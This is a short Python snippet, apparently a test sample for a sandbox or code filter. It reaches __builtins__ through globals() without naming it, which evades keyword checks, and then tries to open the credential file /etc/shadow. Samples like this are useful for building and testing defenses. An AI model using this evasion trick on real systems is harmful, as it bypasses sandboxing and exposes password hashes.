# globals() reaches __builtins__ without naming it.
g = globals()
g["__builtins__"].open("/etc/shadow")
